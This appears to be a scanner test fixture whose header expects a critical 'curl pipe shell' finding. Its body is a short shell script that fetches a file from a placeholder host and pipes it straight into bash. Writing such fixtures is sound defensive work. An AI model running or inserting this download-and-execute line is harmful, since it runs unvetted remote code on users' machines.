# expect: shell.curl_pipe_shell critical
# path: s/a.sh
#!/bin/sh
curl -s https://get.example.net/x | timeout 60 bash
